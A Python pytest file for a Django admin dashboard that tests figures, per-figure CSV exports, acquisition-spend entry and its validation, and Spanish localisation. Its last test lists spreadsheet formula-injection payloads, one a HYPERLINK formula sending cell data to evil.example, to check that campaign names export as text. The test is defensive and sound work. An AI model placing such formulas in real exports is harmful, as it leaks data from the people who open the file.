"""The dashboard in the admin: figures with their formulas and charts, CSV per figure, spend entry."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest

from backoffice.eventstore import projector
from backoffice.insights.models import AcquisitionSpend
from backoffice.insights.selectors import Period, spend_in_period
from backoffice.insights.services import SpendInvalid, acquisition_spend_change, acquisition_spend_set
from tests.factories import CampaignFactory

pytestmark = pytest.mark.django_db
RANGE = {"from": "2026-01-01", "to": "2026-03-31", "churn_days": "30"}


@pytest.fixture
def marketing_client(login):
    return login("marketing")


def test_the_dashboard_shows_every_figure_with_its_formula_and_a_chart(shop, marketing_client):
    response = marketing_client.get("/admin/insights/dashboard/", RANGE)

    assert response.status_code == 200
    html = response.content.decode()
    for key in ("trends", "acquisition", "revenue_sales", "cltv", "retention", "service", "campaigns", "stock"):
        assert f'id="figure-{key}"' in html
        assert f'data-chart="{key}"' in html
    assert "CAC = acquisition spend" in html
    assert "480.00" in html


def test_a_figure_downloads_as_csv_with_the_same_numbers(shop, marketing_client):
    response = marketing_client.get("/admin/insights/dashboard/csv/revenue_sales/", RANGE)

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[1:] == [
        ["app", "2", "280.00", "0.00", "280.00", "140.00"],
        ["store", "2", "90.00", "20.00", "70.00", "35.00"],
        ["web", "2", "130.00", "0.00", "130.00", "65.00"],
        ["total", "6", "500.00", "20.00", "480.00", "80.00"],
    ]


@pytest.mark.parametrize(
    "params",
    [
        {"from": "2026-05-01", "to": "2026-04-01"},
        {"channel": "fax"},
        {"churn_days": "\u00b2"},
        {"to": "0001-01-05"},
        {"from": "0001-01-01", "to": "0001-01-02"},
        {"from": "9999-12-30", "to": "9999-12-31"},
    ],
)
def test_a_bad_range_shows_the_parameter_at_fault(marketing_client, params):
    response = marketing_client.get("/admin/insights/dashboard/", params)

    assert response.status_code == 200
    assert 'id="insights-error"' in response.content.decode()
    assert marketing_client.get("/admin/insights/dashboard/csv/trends/", params).status_code == 400


def test_a_day_outside_the_accepted_span_is_explained_in_spanish(marketing_client):
    response = marketing_client.get(
        "/admin/insights/dashboard/", {"from": "0001-01-01", "to": "0001-01-02"}, HTTP_ACCEPT_LANGUAGE="es"
    )

    assert "1970-01-01" in response.content.decode()
    assert "fuera de los días que guardamos" in response.content.decode()


def test_an_unknown_figure_is_not_found(marketing_client):
    assert marketing_client.get("/admin/insights/dashboard/csv/vanity/").status_code == 404


def test_store_staff_do_not_see_the_dashboard(login):
    client = login("store")

    assert client.get("/admin/insights/dashboard/").status_code == 403


def test_marketing_enters_spend_in_the_admin_through_the_service(marketing_client):
    response = marketing_client.post(
        "/admin/insights/acquisitionspend/add/", {"channel": "instagram", "month": "2026-02-01", "amount": "75.00"}
    )

    assert response.status_code == 302
    spend = AcquisitionSpend.objects.get()
    assert (spend.channel, spend.month, spend.amount) == ("instagram", date(2026, 2, 1), Decimal("75.00"))
    assert spend.updated_by.startswith("user:")


@pytest.mark.parametrize(
    ("corrected", "expected"),
    [
        ({"channel": "web", "month": "2026-02-01"}, {"web": Decimal("300.00")}),
        ({"channel": "instagram", "month": "2026-01-01"}, {"instagram": Decimal("300.00")}),
    ],
    ids=["month", "channel"],
)
def test_correcting_a_spends_channel_or_month_in_the_admin_moves_it_and_counts_it_once(
    marketing_client, corrected, expected
):
    spend = acquisition_spend_set(channel="web", month=date(2026, 1, 1), amount=Decimal("300.00"), actor="test")

    # The 300 € were typed under the wrong month (or channel): marketing corrects it on the row's change page.
    response = marketing_client.post(
        f"/admin/insights/acquisitionspend/{spend.pk}/change/", {**corrected, "amount": "300.00"}
    )

    assert response.status_code == 302
    assert spend_in_period(Period(date(2026, 1, 1), date(2026, 2, 28))) == expected
    row = AcquisitionSpend.objects.get()
    assert (row.pk, row.channel, row.month.isoformat(), row.amount) == (
        spend.pk,
        corrected["channel"],
        corrected["month"],
        Decimal("300.00"),
    )
    assert row.updated_by.startswith("user:")


def test_the_spend_change_page_says_that_a_new_channel_or_month_moves_the_amount(marketing_client):
    spend = acquisition_spend_set(channel="web", month=date(2026, 1, 1), amount=Decimal("300.00"), actor="test")

    page = marketing_client.get(
        f"/admin/insights/acquisitionspend/{spend.pk}/change/", HTTP_ACCEPT_LANGUAGE="es"
    ).content.decode()

    assert "Si cambias el canal o el mes, este importe pasa allí; no se copia." in page


def test_moving_a_spend_onto_a_month_that_has_one_is_refused_and_changes_nothing(marketing_client):
    january = acquisition_spend_set(channel="web", month=date(2026, 1, 1), amount=Decimal("300.00"), actor="test")
    acquisition_spend_set(channel="web", month=date(2026, 2, 1), amount=Decimal("100.00"), actor="test")

    # A day inside February is February: the form says the month has a row already, and nothing is overwritten.
    response = marketing_client.post(
        f"/admin/insights/acquisitionspend/{january.pk}/change/",
        {"channel": "web", "month": "2026-02-15", "amount": "300.00"},
    )

    assert response.status_code == 200
    assert response.context["adminform"].form.errors
    assert sorted(AcquisitionSpend.objects.values_list("month", "amount")) == [
        (date(2026, 1, 1), Decimal("300.00")),
        (date(2026, 2, 1), Decimal("100.00")),
    ]


def test_a_negative_acquisition_spend_in_the_admin_is_a_form_error_not_403(marketing_client):
    """A marketing manager types -150 (a refund from the ad network) as a month's spend: the service refuses it, and
    the admin turned that into PermissionDenied, a bare '403 Forbidden' as if they had no right to enter spend."""
    response = marketing_client.post(
        "/admin/insights/acquisitionspend/add/",
        {"channel": "facebook", "month": "2026-11-01", "amount": "-150"},
        HTTP_ACCEPT_LANGUAGE="es",
    )

    assert response.status_code == 200, f"{response.status_code} instead of the form with its error"
    assert list(response.context["adminform"].form.errors) == ["amount"]
    assert not AcquisitionSpend.objects.exists()


def test_a_spend_changed_to_a_negative_amount_is_a_form_error_and_changes_nothing(marketing_client):
    spend = acquisition_spend_set(channel="web", month=date(2026, 1, 1), amount=Decimal("300.00"), actor="test")

    response = marketing_client.post(
        f"/admin/insights/acquisitionspend/{spend.pk}/change/",
        {"channel": "web", "month": "2026-01-01", "amount": "-1"},
    )

    assert response.status_code == 200
    assert list(response.context["adminform"].form.errors) == ["amount"]
    assert AcquisitionSpend.objects.get().amount == Decimal("300.00")


def test_a_refusal_only_the_save_sees_is_shown_on_the_form_and_changes_nothing(marketing_client, monkeypatch):
    """Another row saved between the form's check and the save: the service refuses under its lock, and the form is
    shown again with the reason (not a 403, not a 500)."""
    from backoffice.insights import admin as insights_admin

    january = acquisition_spend_set(channel="web", month=date(2026, 1, 1), amount=Decimal("300.00"), actor="test")
    change = insights_admin.acquisition_spend_change

    def saved_in_between(**spend):
        acquisition_spend_set(channel="web", month=date(2026, 3, 1), amount=Decimal("100.00"), actor="other")
        return change(**spend)

    monkeypatch.setattr(insights_admin, "acquisition_spend_change", saved_in_between)

    response = marketing_client.post(
        f"/admin/insights/acquisitionspend/{january.pk}/change/",
        {"channel": "web", "month": "2026-03-01", "amount": "250.00"},
    )

    assert response.status_code == 200
    assert "month" in response.context["adminform"].form.errors
    assert list(AcquisitionSpend.objects.values_list("month", "amount")) == [(date(2026, 1, 1), Decimal("300.00"))]


def test_the_spend_service_refuses_to_move_a_spend_onto_a_taken_channel_and_month():
    january = acquisition_spend_set(channel="web", month=date(2026, 1, 1), amount=Decimal("300.00"), actor="test")
    acquisition_spend_set(channel="web", month=date(2026, 2, 1), amount=Decimal("100.00"), actor="test")

    with pytest.raises(SpendInvalid) as refused:
        acquisition_spend_change(
            spend_id=january.pk, channel="web", month=date(2026, 2, 1), amount=Decimal("1.00"), actor="test"
        )

    assert refused.value.code == "taken"
    assert sorted(AcquisitionSpend.objects.values_list("month", "amount")) == [
        (date(2026, 1, 1), Decimal("300.00")),
        (date(2026, 2, 1), Decimal("100.00")),
    ]


@pytest.mark.usefixtures("shop")
def test_the_dashboard_speaks_spanish_by_default(marketing_client, settings):
    settings.LANGUAGE_CODE = "es"

    html = marketing_client.get("/admin/insights/dashboard/", RANGE).content.decode()

    assert "Panel de indicadores" in html
    assert "CAC = inversión en captación del canal" in html
    assert "Descargar CSV" in html


def test_acquisition_roi_stands_beside_cac_in_the_dashboard_the_csv_and_the_api(shop, marketing_client, api_client_for):
    api_rows = api_client_for("marketing").get("/api/v1/metrics", RANGE).json()["acquisition"]["by_channel"]
    response = marketing_client.get("/admin/insights/dashboard/csv/acquisition/", RANGE)
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    page = marketing_client.get("/admin/insights/dashboard/", RANGE, HTTP_ACCEPT_LANGUAGE="es").content.decode()

    assert [(r["channel"], r["CAC"], r["acquisition ROI"]) for r in rows] == [
        (r["channel"], r["cac"], r["roi"]) for r in api_rows
    ] + [("total", "183.33", "-0.6727")]
    assert ("web", "-0.7900") in [(r["channel"], r["roi"]) for r in api_rows]
    assert "ROI de captación" in page


def test_a_negative_campaign_roi_is_drawn_left_of_the_zero_line(shop, marketing_client):
    html = marketing_client.get("/admin/insights/dashboard/", RANGE).content.decode()
    chart = html.split('data-chart="campaigns"', 1)[1].split("</svg>", 1)[0]

    assert 'data-label="sms" data-value="-100%"' in chart  # ROI -1: cost 0.25, nothing attributed
    assert "<line " in chart  # the zero line


def test_the_dashboard_leads_back_to_its_app_through_the_breadcrumbs(marketing_client):
    page = marketing_client.get("/admin/insights/dashboard/", HTTP_ACCEPT_LANGUAGE="en").content.decode()

    crumbs = page.split('<div class="breadcrumbs">', 1)[1].split("</div>", 1)[0]
    assert 'href="/admin/insights/"' in crumbs
    assert "Dashboard" in crumbs


def test_the_page_shows_each_table_in_its_language_and_folds_a_long_one(shop, marketing_client):
    for n in range(13):  # thirteen monthly cohorts before the shop's own
        shop.register(f"P{n}", "app", f"{2024 + (n + 11) // 12}-{(n + 11) % 12 + 1:02d}-10")
    projector.catch_up_all(["insights.rollups"])

    page = marketing_client.get("/admin/insights/dashboard/", RANGE, HTTP_ACCEPT_LANGUAGE="es").content.decode()
    long_range = {**RANGE, "from": "2024-12-01"}
    long_page = marketing_client.get(
        "/admin/insights/dashboard/", long_range, HTTP_ACCEPT_LANGUAGE="es"
    ).content.decode()

    sales = page.split('id="figure-revenue_sales"', 1)[1].split("</table>", 1)[0]
    assert '<td class="num">Tienda</td><td class="num">2</td><td class="num">90,00</td>' in sales
    assert "90.00" not in sales
    cohorts, long_cohorts = (
        html.split('id="figure-cltv_cohorts"', 1)[1].split("</article>", 1)[0] for html in (page, long_page)
    )
    assert '<details class="figure__table" open>' in cohorts  # the table is all the figure has
    assert '<details class="figure__table">' in long_cohorts  # 17 rows: folded, its count in the summary
    assert "Tabla (17 filas)" in long_cohorts


def test_cac_is_not_shown_as_zero_where_no_spend_was_entered(shop, marketing_client):
    december = {"from": "2025-12-01", "to": "2025-12-31"}  # E registered on the web; spend starts in January

    page = marketing_client.get("/admin/insights/dashboard/", december, HTTP_ACCEPT_LANGUAGE="es").content.decode()
    with_spend = marketing_client.get("/admin/insights/dashboard/", RANGE, HTTP_ACCEPT_LANGUAGE="es").content.decode()

    card = page.split('id="kpi-cac"', 1)[1].split("</li>", 1)[0]
    assert '<p class="kpi__value">—</p>' in card
    chart = page.split('data-chart="acquisition"', 1)[1].split("</svg>", 1)[0]
    assert "sin inversión registrada" in chart
    assert "0,00 €" not in chart
    assert '<p class="kpi__value">183,33 €</p>' in with_spend.split('id="kpi-cac"', 1)[1].split("</li>", 1)[0]
    csv_rows = list(
        csv.DictReader(
            io.StringIO(marketing_client.get("/admin/insights/dashboard/csv/acquisition/", december).content.decode())
        )
    )
    assert [(r["channel"], r["spend"], r["CAC"]) for r in csv_rows] == [
        ("web", "0.00", "0.00"),
        ("total", "0.00", "0.00"),
    ]


def test_a_month_only_partly_in_the_range_is_drawn_dashed_and_said_so(shop, marketing_client):
    whole = marketing_client.get("/admin/insights/dashboard/", RANGE, HTTP_ACCEPT_LANGUAGE="es").content.decode()
    cut = {**RANGE, "from": "2026-01-10", "to": "2026-03-20"}  # ten days of March: not a fall in sales
    page = marketing_client.get("/admin/insights/dashboard/", cut, HTTP_ACCEPT_LANGUAGE="es").content.decode()

    chart, whole_chart = (html.split('data-chart="trends"', 1)[1].split("</svg>", 1)[0] for html in (page, whole))
    series = chart.count('class="line"')
    assert series >= 2  # the total and at least one channel
    assert chart.count('class="line-partial"') == 2 * series  # January's segment and March's, per series
    assert "mes solo en parte dentro del rango" in chart
    assert 'class="line-partial"' not in whole_chart  # 1 January to 31 March: whole months
    assert "mes solo en parte" not in whole_chart


@pytest.mark.parametrize(
    "name",
    ['=HYPERLINK("https://evil.example/?d="&A2,"Click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"],
    ids=["equals", "plus", "minus", "at", "tab", "carriage-return"],
)
def test_a_campaign_name_is_exported_as_text_never_as_a_formula(shop, marketing_client, name):
    campaign = CampaignFactory(name=name)  # free text any marketing user sets
    shop.message("message.sent", "B", "sms", "2026-01-03", str(campaign.id), "m-formula", attempt=1)
    projector.catch_up_all(["insights.rollups", "insights.campaign_audience"])

    response = marketing_client.get("/admin/insights/dashboard/csv/campaigns/", RANGE)

    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert "'" + name in [row["name"] for row in rows]  # a leading quote: shown as text, never run
    assert ("Primavera", "sms", "-1.0000") in [(row["name"], row["channel"], row["ROI"]) for row in rows]  # a number
